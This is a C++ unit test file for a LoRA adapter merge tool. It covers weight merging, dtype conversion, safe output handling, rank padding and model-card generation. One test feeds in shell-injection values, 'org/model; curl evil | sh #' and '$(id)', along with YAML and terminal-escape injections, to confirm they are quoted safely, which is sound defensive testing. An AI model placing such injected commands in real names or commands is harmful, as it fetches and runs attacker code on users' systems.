#include "lora_train/lora/merge.h"

#include <gtest/gtest.h>

#include <cmath>
#include <fstream>
#include <functional>
#include <tuple>

#include "lora/merge_math.h"
#include "lora_train/base/error.h"
#include "lora_train/base/file.h"
#include "lora_train/base/file_ops.h"
#include "lora_train/lora/usage_section.h"
#include "lora_train/storage/model_output.h"
#include "lora_train/storage/model_weights.h"
#include "merge_folder.h"
#include "support/expect_refused.h"
#include "support/faulty_file_ops.h"
#include "support/refusal.h"
#include "support/safetensors_file.h"
#include "support/temporary_folder.h"

namespace lora_train::lora {
namespace {

namespace fs = std::filesystem;
using storage::DType;
using testing_support::TemporaryFolder;

AdapterConfig options() {
  AdapterConfig made;
  made.lora_target_modules = {LoraTargets::Kind::kList, {"q_proj", "down_proj"}, {}};
  made.lora_r = 3;
  made.lora_alpha = 5;
  made.rank_pattern = {{"layers.1.*q_proj", 2}};
  return made;
}

/// model/, adapter/ and room for out/.
struct Folders {
  explicit Folders(const testing_support::MergeModelSize& size = {}) {
    testing_support::write_merge_model(folder / "model", size);
    testing_support::write_merge_adapter(folder / "adapter", folder / "model", options());
    request.model = folder / "model";
    request.adapter = folder / "adapter";
    request.output_dir = folder / "out";
    request.model_name = "org/base";
  }
  std::vector<std::string> names() const { return list_folder(folder.path()); }

  TemporaryFolder folder;
  MergeRequest request;
};

const std::vector<std::string> kInputsAlone = {"adapter", "model"};

template <typename Failure>
std::string message_of(const MergeRequest& request, const MergeHooks& hooks = {}) {
  return testing_support::refusal<Failure>([&] { merge_adapter(request, hooks); });
}

TEST(Merge, CardQuotesTheNamesOfModelAndAdapter) {
  Folders folders;
  folders.request.model_name = "org/base\nlicense: mit";
  auto config = nlohmann::json::parse(read_file(folders.request.adapter / "adapter_config.json"));
  config["base_model_name_or_path"] = "org/other\n\n# Heading\x1b[2J";
  write_file_atomic(folders.request.adapter / "adapter_config.json", config.dump());
  const std::string card = read_file(merge_adapter(folders.request).folder / "README.md");
  EXPECT_TRUE(card.starts_with("---\nbase_model: \"org/base\\nlicense: mit\"\nlibrary_name: transformers\n")) << card;
  EXPECT_EQ(card.find("\n# Heading"), std::string::npos) << card;
  EXPECT_EQ(card.find('\x1b'), std::string::npos) << card;
}

TEST(Merge, KeepsFilesAndOrderAndWhatIsNotAdapted) {
  const Folders test;
  const MergeResult result = merge_adapter(test.request);
  EXPECT_EQ(result.num_merged, 4);
  const auto before = storage::open_model_weights(test.request.model),
             after = storage::open_model_weights(result.folder);
  ASSERT_GT(before.files().size(), 3u);
  ASSERT_EQ(before.files().size(), after.files().size());
  std::int64_t num_changed = 0;
  for (std::size_t i = 0; i < before.files().size(); ++i) {
    const auto &old = before.files()[i], &merged = after.files()[i];
    ASSERT_EQ(old.path().filename(), merged.path().filename());
    ASSERT_EQ(old.tensors().size(), merged.tensors().size());
    for (std::size_t k = 0; k < old.tensors().size(); ++k) {
      const std::string& name = old.tensors()[k].name;
      EXPECT_EQ(merged.tensors()[k].name, name);
      const bool is_adapted = name.find("q_proj") != name.npos || name.find("down_proj") != name.npos;
      EXPECT_EQ(old.bytes(old.tensors()[k]) != merged.bytes(merged.tensors()[k]), is_adapted) << name;
      num_changed += is_adapted ? 1 : 0;
    }
  }
  EXPECT_EQ(num_changed, 4);
  EXPECT_EQ(read_file(test.request.model / "config.json"), read_file(result.folder / "config.json"));
  const auto weight_map = [](const fs::path& folder) {
    return nlohmann::json::parse(read_file(folder / "model.safetensors.index.json"))["weight_map"];
  };
  EXPECT_EQ(weight_map(result.folder), weight_map(test.request.model));
}

TEST(Merge, ConvertsEveryWeightAndSaysSoInTheConfig) {
  Folders test;
  test.request.dtype = DType::kBF16;
  const MergeResult result = merge_adapter(test.request);
  const auto weights = storage::open_model_weights(result.folder);
  for (const auto& name : weights.names()) EXPECT_EQ(weights.find(name)->dtype, DType::kBF16) << name;
  const auto config = nlohmann::json::parse(read_file(result.folder / "config.json"));
  EXPECT_EQ(config["torch_dtype"], "bfloat16");
  const auto index = nlohmann::json::parse(read_file(result.folder / "model.safetensors.index.json"));
  EXPECT_EQ(index["metadata"]["total_size"], result.weight_bytes);
}

TEST(Merge, TakesTheTokenizerThatTheAdapterWasTrainedWith) {
  const Folders test;
  const auto write = [&](const char* folder, const char* name) {
    write_file_atomic(test.folder / folder / name, std::string("of ") + folder);
  };
  for (const char* name : {"tokenizer.json", "chat_template.jinja", "vocab.json", "generation_config.json", "LICENSE"})
    write("model", name);
  EXPECT_EQ(merged_tokenizer_folder(test.request.model, test.request.adapter), test.request.model);
  for (const char* name : {"tokenizer.json", "tokenizer_config.json", "generation_config.json"}) write("adapter", name);
  const fs::path out = merge_adapter(test.request).folder;
  for (const char* name : {"tokenizer.json", "tokenizer_config.json", "generation_config.json"})
    EXPECT_EQ(read_file(out / name), "of adapter") << name;
  EXPECT_EQ(read_file(out / "LICENSE"), "of model");
  for (const char* name : {"chat_template.jinja", "vocab.json", "adapter_config.json"})
    EXPECT_FALSE(fs::exists(out / name)) << name << ": the adapter was trained without it, or it is the adapter's";
}

TEST(Merge, NeverWritesIntoWhatItReadsOrWhatIsNotItsOwn) {
  Folders test;
  const auto refusal = [&](const fs::path& output, bool overwrite) {
    test.request.output_dir = output;
    test.request.overwrite = overwrite;
    return message_of<ConfigError>(test.request);
  };
  EXPECT_SAYS(refusal(test.folder / "model", true), "is what this command reads");
  EXPECT_SAYS(refusal(test.folder / "model" / ".." / "adapter" / "", true), "is what this command reads");
  EXPECT_SAYS(refusal(test.folder.path(), true), "holds what this command reads");
  fs::create_directory_symlink(test.folder / "model", test.folder / "link");
  EXPECT_SAYS(refusal(test.folder / "link", true), "is what this command reads");
  fs::create_directory(test.folder / "mine");
  write_file_atomic(test.folder / "mine" / "thesis.tex", "x");
  EXPECT_SAYS(refusal(test.folder / "mine", false), "is not empty");
  EXPECT_SAYS(refusal(test.folder / "mine", true), "was not written by lora-train");
  EXPECT_EQ(read_file(test.folder / "mine" / "thesis.tex"), "x");
  EXPECT_SAYS(refusal(test.folder / "mine" / "thesis.tex", true), "is a file");
}

TEST(Merge, ReplacesAnEarlierOneWhenAskedAndSweepsWhatAKilledOneLeft) {
  Folders test;
  fs::create_directory(test.folder / ".tmp-out-12345");
  write_file_atomic(test.folder / ".tmp-out-12345" / storage::kOutputMarker,
                    R"({"made_by": "lora-train", "version": 1, "holds": "model"})");
  fs::create_directory(test.folder / ".tmp-other-12345");
  merge_adapter(test.request);
  EXPECT_SAYS(message_of<ConfigError>(test.request), "is not empty");
  test.request.overwrite = true;
  test.request.dtype = DType::kF16;
  test.request.output_dir = test.folder / "out" / "";
  EXPECT_EQ(merge_adapter(test.request).folder, test.folder / "out");
  EXPECT_EQ(test.names(), (std::vector<std::string>{".tmp-other-12345", "adapter", "model", "out"}));
  EXPECT_EQ(storage::open_model_weights(test.folder / "out").find("model.norm.weight")->dtype, DType::kF16);
}

TEST(Merge, IsTakenBackWhenTheCheckFails) {
  Folders test;
  bool was_there = false;
  MergeHooks hooks;
  hooks.check = [&](const fs::path& folder) {
    was_there = fs::exists(folder / "config.json");
    throw NumericError("row 1", "not finite");
  };
  EXPECT_SAYS(message_of<NumericError>(test.request, hooks), "not finite");
  EXPECT_TRUE(was_there);
  EXPECT_EQ(test.names(), kInputsAlone);
  merge_adapter(test.request);
  const std::string old = read_file(test.folder / "out" / "config.json");
  test.request.overwrite = true;
  test.request.dtype = DType::kBF16;
  EXPECT_SAYS(message_of<NumericError>(test.request, hooks), "not finite");
  EXPECT_EQ(read_file(test.folder / "out" / "config.json"), old);
}

TEST(Merge, LeavesNothingOnADiskThatFills) {
  const Folders test;
  testing_support::FaultyFileOps faulty(file_ops());
  std::size_t num_operations = 0, num_failed = 0;
  {
    const testing_support::ScopedFileOps use(faulty);
    faulty.arm(testing_support::Fault::kNone);
    const fs::path out = merge_adapter(test.request).folder;
    num_operations = faulty.num_operations();
    remove_tree(out);
  }
  for (std::size_t at = 0; at < num_operations; at += 3) {
    {
      const testing_support::ScopedFileOps use(faulty);
      faulty.arm(testing_support::Fault::kNoSpace, at);
      try {
        merge_adapter(test.request);
      } catch (const IoError&) {
        ++num_failed;
        EXPECT_FALSE(fs::exists(test.folder / "out") && !fs::exists(test.folder / "out" / "config.json")) << at;
        for (const auto& name : test.names()) EXPECT_FALSE(name.starts_with(".tmp-")) << name << " " << at;
      }
    }
    remove_tree(test.folder / "out");
  }
  EXPECT_GT(num_failed, num_operations / 4);
}

TEST(Merge, SaysWhichAdapterIsOfAnotherModel) {
  const Folders test;
  testing_support::MergeModelSize wide;
  wide.hidden_size = 32;
  testing_support::write_merge_model(test.folder / "wide", wide);
  MergeRequest request = test.request;
  request.model = test.folder / "wide";
  testing_support::expect_refused([&] { merge_adapter(request); }, "model.layers.0.mlp.down_proj.lora_B.weight",
                                  {"is F32 [16, 3], expected shape [32, 3]", "names the base model \"org/base\""});
  EXPECT_FALSE(fs::exists(test.folder / "out"));
}

std::size_t peak_resident_bytes() {
  std::ifstream status("/proc/self/status");
  for (std::string line; std::getline(status, line);) {
    if (line.starts_with("VmHWM:")) return std::stoul(line.substr(6)) * 1024;
  }
  return 0;
}

TEST(Merge, TakesMemoryOfATensorNotOfTheModel) {
  const Folders test({.hidden_size = 256, .intermediate_size = 1024, .num_layers = 16, .max_shard_bytes = 3 << 20});
  std::uint64_t model_bytes = 0;
  for (const auto& entry : fs::directory_iterator(test.request.model)) model_bytes += entry.file_size();
  std::ofstream("/proc/self/clear_refs") << "5";  // the peak starts anew
  const std::size_t before = peak_resident_bytes();
  const MergeResult result = merge_adapter(test.request);
  const std::size_t growth = peak_resident_bytes() - before;
  EXPECT_GT(model_bytes, 60u << 20);
  EXPECT_GT(result.num_files, 20);
  EXPECT_LT(growth, 12u << 20) << "of a model of " << model_bytes;
}

std::vector<float> values(const storage::SafetensorsFile& file, const std::string& name) {
  const auto* entry = file.find(name);
  return read_floats(file.bytes(*entry), entry->dtype);
}

/// scale B A of a linear, in double.
std::vector<double> product(const fs::path& adapter, const std::string& path, const RankAndScale& linear) {
  const storage::SafetensorsFile file(adapter / "adapter_model.safetensors");
  const std::string prefix = "base_model.model." + path;
  const auto a = values(file, prefix + ".lora_A.weight"), b = values(file, prefix + ".lora_B.weight");
  const std::size_t R = static_cast<std::size_t>(linear.rank), I = a.size() / R, O = b.size() / R;
  std::vector<double> out(O * I);
  for (std::size_t o = 0; o < O; ++o) {
    for (std::size_t k = 0; k < R; ++k) {
      for (std::size_t i = 0; i < I; ++i) out[o * I + i] += linear.scale * double{b[o * R + k]} * double{a[k * I + i]};
    }
  }
  return out;
}

struct Portable {
  explicit Portable(const AdapterConfig& options) {
    testing_support::write_merge_model(folder / "model");
    testing_support::write_merge_adapter(folder / "adapter", folder / "model", options);
  }
  PortableResult make() const { return make_portable({folder / "adapter", folder / "out", false}); }

  TemporaryFolder folder;
};

AdapterConfig mixed() {
  AdapterConfig options;
  options.lora_target_modules = {
      LoraTargets::Kind::kList, {"q_proj", "up_proj", "model.layers.1.self_attn.o_proj"}, {}};
  options.lora_r = 4;
  options.lora_alpha = 6;
  options.use_rslora = true;
  options.rank_pattern = {{"up_proj", 2}, {"layers.1.self_attn.q_proj", 7}};
  options.alpha_pattern = {{"o_proj", 3}};
  return options;
}

TEST(Portable, KeepsTheProductOfEveryLinear) {
  const Portable test(mixed());
  const PortableResult result = test.make();
  EXPECT_EQ(std::tuple(result.num_linears, result.rank, result.alpha, result.num_padded, result.num_rescaled),
            std::tuple(5, 7, 7, 4, 5));
  const AdapterConfig before = read_adapter_config(test.folder / "adapter"), after = read_adapter_config(result.folder);
  EXPECT_FALSE(after.use_rslora);
  EXPECT_TRUE(after.rank_pattern.empty());
  EXPECT_TRUE(after.alpha_pattern.empty());
  EXPECT_EQ(after.lora_target_modules.names, before.lora_target_modules.names);
  EXPECT_EQ(after.base_model_name_or_path, "org/base");
  for (const auto& spec : plan_adapters(before, model::read_model_config(test.folder / "model"))) {
    const std::string path = model::linear_path(spec);
    const auto old = product(test.folder / "adapter", path, {spec.rank, spec.scale});
    const auto got = product(result.folder, path, ranks_and_scales(after, {path}).front());
    ASSERT_EQ(old.size(), got.size());
    double error = 0, norm = 0;
    for (std::size_t i = 0; i < old.size(); ++i) {
      error += (got[i] - old[i]) * (got[i] - old[i]);
      norm += old[i] * old[i];
    }
    EXPECT_GT(norm, 0);
    EXPECT_LT(std::sqrt(error / norm), 1e-7) << path;
  }
}

TEST(Portable, ChangesNoValueWhereOneWholeAlphaDoes) {
  AdapterConfig config;
  config.lora_target_modules = {LoraTargets::Kind::kList, {"q_proj", "up_proj"}, {}};
  config.lora_r = 4;
  config.lora_alpha = 8;
  config.rank_pattern = {{"up_proj", 2}};
  config.alpha_pattern = {{"up_proj", 4}};
  const Portable test(config);
  const PortableResult result = test.make();
  EXPECT_EQ(result.alpha, 8);
  EXPECT_EQ(result.num_rescaled, 0);
  const storage::SafetensorsFile old(test.folder / "adapter" / "adapter_model.safetensors");
  const storage::SafetensorsFile now(result.folder / "adapter_model.safetensors");
  const std::string q = "base_model.model.model.layers.0.self_attn.q_proj.lora_B.weight";
  EXPECT_EQ(values(old, q), values(now, q));
  const auto padded = values(now, "base_model.model.model.layers.0.mlp.up_proj.lora_B.weight");
  const auto narrow = values(old, "base_model.model.model.layers.0.mlp.up_proj.lora_B.weight");
  for (std::size_t row = 0; row < 24; ++row) {
    for (std::size_t k = 0; k < 4; ++k) EXPECT_EQ(padded[row * 4 + k], k < 2 ? narrow[row * 2 + k] : 0);
  }
}

TEST(Portable, NamesTheLinearsThatARegexChose) {
  AdapterConfig options;
  options.lora_target_modules = {LoraTargets::Kind::kRegex, {}, R"(model\.layers\.1\.mlp\.(gate|up)_proj)"};
  const Portable test(options);
  auto config = nlohmann::json::parse(read_file(test.folder / "adapter" / "adapter_config.json"));
  config["target_modules"] = options.lora_target_modules.regex;
  write_file_atomic(test.folder / "adapter" / "adapter_config.json", config.dump());
  EXPECT_EQ(read_adapter_config(test.make().folder).lora_target_modules.names,
            (std::vector<std::string>{"model.layers.1.mlp.gate_proj", "model.layers.1.mlp.up_proj"}));
}

TEST(Portable, WritesTheUseSectionOfTheCardAnew) {
  const Portable test(mixed());
  const std::string old = test.folder / "adapter";
  const std::string card = "---\nbase_model: org/base\n---\n\n# Mine\n\n" + usage_section({"org/base", old, 7, false});
  write_file_atomic(test.folder / "adapter" / "README.md", card);
  write_file_atomic(test.folder / "adapter" / "tokenizer.json", "{}");
  const fs::path out = test.make().folder;
  const std::string text = read_file(out / "README.md");
  EXPECT_SAYS(card, "ignore patterns");
  EXPECT_EQ(text.find("ignore patterns"), std::string::npos);
  EXPECT_SAYS(text, "all three support it");
  EXPECT_SAYS(text, "my-adapter=" + out.string() + " --max-lora-rank 8");
  EXPECT_TRUE(text.starts_with("---\nbase_model: org/base\n---\n\n# Mine\n"));
  EXPECT_EQ(read_file(out / "tokenizer.json"), "{}");
  EXPECT_EQ(with_usage_section("# Someone else's\n## Use\n\nAs you like.\n", {}),
            "# Someone else's\n## Use\n\nAs you like.\n");
}

using Tensors = std::vector<storage::TensorToWrite>;

/// What make_portable says after `change` spoiled the tensors.
std::string refusal(const std::function<void(Tensors&)>& change) {
  const Portable test(mixed());
  const fs::path path = test.folder / "adapter" / "adapter_model.safetensors", old = test.folder / "old";
  fs::rename(path, old);
  const storage::SafetensorsFile read(old);
  Tensors tensors;
  for (const auto& entry : read.tensors())
    tensors.push_back({entry.name, entry.dtype, entry.shape, read.bytes(entry), nullptr});
  change(tensors);
  storage::write_safetensors(path, tensors);
  const std::string said = testing_support::refusal<FormatError>([&] { test.make(); });
  EXPECT_EQ(fs::exists(test.folder / "out"), said == "accepted");
  return said;
}

TEST(Portable, ChecksEveryTensor) {
  EXPECT_EQ(refusal([](Tensors&) {}), "accepted");
  EXPECT_SAYS(refusal([](Tensors& all) { all.erase(all.begin()); }), "lora_A.weight: is missing");
  EXPECT_SAYS(refusal([](Tensors& all) { all[0].name = "base_model.model.lm_head.weight"; }), "not a LoRA matrix");
  EXPECT_SAYS(refusal([](Tensors& all) { std::swap(all[0].shape[0], all[0].shape[1]); }), "another model or rank");
  std::string nans;
  EXPECT_SAYS(refusal([&](Tensors& all) {
                nans.assign(all[0].bytes.size(), '\xFF');
                all[0].bytes = nans;
              }),
              "holds NaN or infinity");
}

TEST(ModelCard, NamesAreQuotedForTheShellPythonAndYaml) {
  const std::string base = "org/model; curl evil | sh #\nx: y";
  const std::string text = usage_section({base, "out's/$(id)\"", 8, true});
  EXPECT_SAYS(text, "\nvllm serve 'org/model; curl evil | sh # x: y' --enable-lora");
  EXPECT_SAYS(text, "--adapter 'out'\\''s/$(id)\"' --output-dir 'out'\\''s/$(id)\"-merged'");
  EXPECT_SAYS(text, "from_pretrained(\"org/model; curl evil | sh # x: y\")");
  EXPECT_SAYS(text, "\"out's/$(id)\\\"\"");
  EXPECT_TRUE(card_head("a\nlicense: mit", "peft").starts_with("---\nbase_model: \"a\\nlicense: mit\"\n"));
  EXPECT_EQ(one_line("a\x1b[2J\nb"), "a\\x1b[2J b");
  EXPECT_SAYS(usage_section({"org/plain-1.5B", "runs/first/adapter", 8, true}), "vllm serve org/plain-1.5B --");
}

TEST(UsageSection, OfTokenRowsResizesFirstAndSaysWhoTakesThem) {
  AdapterUse use{"org/base", "runs/a", 8};
  EXPECT_EQ(usage_section(use).find("resize_token_embeddings"), std::string::npos);
  use.has_token_rows = true;
  use.vocab_size = 2112;
  const std::string text = usage_section(use);
  EXPECT_SAYS(text, "base.resize_token_embeddings(2112)\nmodel = PeftModel.from_pretrained(base, \"runs/a\")");
  EXPECT_EQ(text.find("vllm serve"), std::string::npos);
  EXPECT_EQ(text.find("lora-train export"), std::string::npos);
}

}  // namespace
}  // namespace lora_train::lora
